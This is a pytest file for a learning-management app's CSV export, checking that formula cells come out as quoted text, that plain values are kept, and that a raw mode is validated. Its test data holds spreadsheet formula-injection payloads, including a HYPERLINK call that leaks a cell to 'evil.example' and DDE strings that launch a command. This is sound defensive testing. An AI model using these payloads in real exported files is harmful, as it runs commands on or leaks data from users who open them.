"""Exports are safe to open in a spreadsheet: cells that would run as formulas come out as text, unless `raw`."""
from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from learning.evidence.models import Assessment, Evidence
from learning.evidence.services import export_run
from learning.models import Assignment, Course
from tests.factories import LearnerFactory, SiteFactory
from tests.learning.evidence_helpers import url

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\t=1+2", "\r=1+2"]


def _export(api, tenant, kind: str, **body) -> tuple[bytes, list[list[str]]]:  # noqa: ANN001, ANN003
    response = api.post(url(tenant, "exports"), {"kind": kind, **body}, format="json")
    assert response.status_code == 202, response.content
    assert response.json()["raw"] is bool(body.get("raw"))
    assert export_run(export_id=response.json()["id"], batch_size=2) == "done"
    content = b"".join(api.get(url(tenant, f"exports/{response.json()['id']}/download")).streaming_content)
    return content, list(csv.reader(io.StringIO(content.decode(), newline="")))


def _rows_with_formulas(tenant) -> None:  # noqa: ANN001
    for index, formula in enumerate(FORMULAS):
        site = SiteFactory(tenant=tenant, name=formula)
        learner = LearnerFactory(tenant=tenant, first_name=formula, last_name=f"Plain{index}", site=site)
        course = Course.objects.create(tenant=tenant, title=formula, status="published")
        Assignment.objects.create(tenant=tenant, learner=learner, course=course)
        Assessment.objects.create(
            tenant=tenant, learner=learner, unit_standard=formula, outcome="competent", assessor_ref="user:1",
            assessor_label=formula, assessed_on=date(2026, 1, 5), comments=formula,
        )
        Evidence.objects.create(
            tenant=tenant, learner=learner, title=formula, file_name=formula, storage_name="x", content_type="application/pdf",
            size=1, sha256="0" * 64,
        )


# Columns holding a formula in each kind (by header name).
COLUMNS = {
    "learners": ("firstName", "site"),
    "enrollments": ("courseTitle",),
    "assessments": ("unitStandard", "assessor", "comments"),
    "evidence": ("title", "fileName"),
}


@pytest.mark.parametrize("kind", list(COLUMNS))
def test_every_formula_cell_of_every_kind_opens_as_text(api, tenant, kind):  # noqa: ANN001
    _rows_with_formulas(tenant)
    content, rows = _export(api, tenant, kind)
    header, body = rows[0], rows[1:]
    assert len(body) == len(FORMULAS)
    cells = [row[header.index(column)] for row in body for column in COLUMNS[kind]]
    assert sorted(cells) == sorted("'" + formula for formula in FORMULAS for _ in COLUMNS[kind])
    for row in body:
        assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row)
    # Every cell is quoted, so a spreadsheet splitting on ";" cannot start a new cell inside one.
    first_line = content.split(b"\r\n")[1]
    assert first_line.startswith(b'"') and b'","' in first_line


def test_plain_values_and_numbers_are_unchanged(api, tenant):  # noqa: ANN001
    learner = LearnerFactory(tenant=tenant, first_name="Thandi", last_name="O'Neill-Smith", email="a-b@example.com")
    _, rows = _export(api, tenant, "learners")
    row = rows[1]
    header = rows[0]
    assert row[header.index("id")] == str(learner.pk)
    assert row[header.index("firstName")] == "Thandi"
    assert row[header.index("lastName")] == "O'Neill-Smith"
    assert row[header.index("site")] == ""


def test_raw_exports_keep_the_values_exactly_for_machine_consumers(api, tenant):  # noqa: ANN001
    _rows_with_formulas(tenant)
    content, rows = _export(api, tenant, "learners", raw=True)
    header = rows[0]
    assert sorted(row[header.index("firstName")] for row in rows[1:]) == sorted(FORMULAS)
    assert content.startswith(b"id,firstName")  # quoted only where CSV needs it


def test_raw_must_be_a_boolean(api, tenant):  # noqa: ANN001
    response = api.post(url(tenant, "exports"), {"kind": "learners", "raw": "perhaps"}, format="json")
    assert response.status_code == 400
    assert response.json()["error"]["details"]["field"] == "raw"
